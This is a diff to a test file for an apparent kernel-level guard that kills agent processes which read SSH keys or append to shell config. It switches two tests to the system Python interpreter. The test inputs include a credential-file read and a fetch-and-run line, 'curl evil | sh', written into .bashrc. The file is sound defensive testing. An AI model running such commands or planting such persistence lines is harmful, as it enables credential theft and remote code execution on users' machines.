@@ -24,6 +24,9 @@ from tests.helpers import REPO, GuardRun, guard, records, wait_for
 
 pytestmark = requires_bpf
 PY = sys.executable
+# Agents that run as a throwaway user use the distro python: the checkout (and its venv) may
+# sit under a directory only root can enter.
+SYS_PY = "/usr/bin/python3"
 DEFAULT = REPO / "policies" / "default.yaml"
 EXIT_HALTED, EXIT_KILLED = 120, 121
 
@@ -53,7 +56,7 @@ def test_ssh_key_read_kills_the_reader(tmp_cgroup, tmp_path, ws, agent_user):
     marker = tmp_path / "survived"
     log = tmp_path / "v.jsonl"
     code = f"import time; open({str(key)!r}).read(); time.sleep(3); open({str(marker)!r}, 'w')"
-    with GuardRun(tmp_cgroup, log, ["runuser", "-u", user, "--", PY, "-c", code], workspace=ws) as run:
+    with GuardRun(tmp_cgroup, log, ["runuser", "-u", user, "--", SYS_PY, "-c", code], workspace=ws) as run:
         assert run.wait() == EXIT_KILLED, run.err
     assert not marker.exists()
     (rec,) = [r for r in records(log) if r["verdict"] == "KILL"]
@@ -90,7 +93,7 @@ def test_agent_config_write_is_killed(tmp_cgroup, tmp_path, ws, agent_user):
     code = (f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\n'); "
             f"import time; time.sleep(3); open({str(marker)!r}, 'w')")
     log = tmp_path / "v.jsonl"
-    with GuardRun(tmp_cgroup, log, ["runuser", "-u", user, "--", PY, "-c", code], workspace=ws) as run:
+    with GuardRun(tmp_cgroup, log, ["runuser", "-u", user, "--", SYS_PY, "-c", code], workspace=ws) as run:
         assert run.wait() == EXIT_KILLED, run.err
     assert ("KILL", "agent-config-write") in verdicts_of(log)
     assert not marker.exists()
